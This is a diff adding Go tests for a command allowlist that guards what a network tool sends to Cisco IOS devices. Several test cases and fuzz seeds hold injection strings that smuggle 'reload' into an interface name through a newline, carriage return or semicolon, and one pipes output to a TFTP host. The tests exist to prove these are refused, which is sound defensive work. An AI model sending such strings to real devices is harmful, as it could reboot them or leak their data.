@@ -1,0 +1,89 @@
+package cli
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"whydrop/devices/parse"
+)
+
+func TestCheckRefusesWhatIsNotOnTheList(t *testing.T) {
+	for _, c := range []struct {
+		name, platform, command string
+		ok                      bool
+	}{
+		{"a plain command", "cisco_ios", "show interfaces", true},
+		{"an interface", "cisco_iosxe", "show interfaces TenGigabitEthernet1/1/0.100", true},
+		{"a port-channel", "cisco_ios", "show interfaces Port-channel1", true},
+		{"the width we use", "cisco_ios", "terminal width 511", true},
+		{"another width", "cisco_ios", "terminal width 80", false},
+		{"a newline in the name", "cisco_ios", "show interfaces Gi0/1\nreload", false},
+		{"a carriage return in the name", "cisco_ios", "show interfaces Gi0/1\rreload", false},
+		{"a pipe", "cisco_ios", "show interfaces Gi0/1 | redirect tftp://192.0.2.1/x", false},
+		{"a semicolon", "cisco_ios", "show interfaces Gi0/1;reload", false},
+		{"two names", "cisco_ios", "show interfaces Gi0/1 counters", false},
+		{"no name after the blank", "cisco_ios", "show interfaces ", false},
+		{"a name that begins with a digit", "cisco_ios", "show interfaces 1/0/1", false},
+		{"a name of 65 characters", "cisco_ios", "show interfaces G" + strings.Repeat("1", 64), false},
+		{"a name of 64 characters", "cisco_ios", "show interfaces G" + strings.Repeat("1", 63), true},
+		{"a question mark", "cisco_ios", "show interfaces Gi0/1?", false},
+		{"the placeholder's own name is a name like any other", "cisco_ios", "show interfaces NAME", true},
+		{"an abbreviation", "cisco_ios", "sh int", false},
+		{"configuration", "cisco_ios", "configure terminal", false},
+		{"enable", "cisco_ios", "enable", false},
+		{"trailing blank", "cisco_ios", "show clock ", false},
+		{"upper case", "cisco_ios", "SHOW CLOCK", false},
+		{"another platform", "junos", "show interfaces", false},
+		{"nothing", "cisco_ios", "", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if err := check(c.platform, c.command); (err == nil) != c.ok {
+				t.Errorf("check(%q, %q) = %v, want ok %v", c.platform, c.command, err, c.ok)
+			}
+		})
+	}
+}
+
+func TestARefusedCommandIsNotSent(t *testing.T) {
+	s := ios(t, nil)
+	c := collector(t)
+	d := device(s, nil)
+	if _, err := c.Ask(within(t, 5*time.Second), d, "show interfaces Gi0/1\nreload"); err == nil {
+		t.Fatal("no error")
+	}
+	if n := s.Counts().Connections; n != 0 {
+		t.Errorf("%d connections for a command that may not be sent", n)
+	}
+	d.Ports = []string{"GigabitEthernet1/0/1", "Gi0/1\nreload\ny"}
+	if _, err := c.Collect(within(t, 5*time.Second), d); err == nil {
+		t.Error("a port with a newline in its name was asked")
+	}
+	c.Close()
+	onlyAllowed(t, s)
+}
+
+func TestEveryShowCommandHasAParser(t *testing.T) {
+	for platform, list := range Allowed {
+		if definitions[platform] == nil {
+			t.Errorf("platform %s has no definition", platform)
+		}
+		for _, c := range list {
+			c = strings.TrimSuffix(c, " "+placeholder)
+			if strings.HasPrefix(c, "show ") && parse.Parsers[platform][c] == nil {
+				t.Errorf("%s: %q has no parser", platform, c)
+			}
+		}
+	}
+}
+
+func FuzzCheck(f *testing.F) {
+	for _, s := range []string{"show interfaces Gi0/1", "show interfaces Gi0/1\nreload", "terminal length 0", "show interfaces Gi0/1 | include x", "show interfaces \x00"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, command string) {
+		if check("cisco_ios", command) == nil && strings.ContainsAny(command, "\r\n;|?\x00\x03\x15\x1a\b\t") {
+			t.Errorf("%q may be sent", command)
+		}
+	})
+}
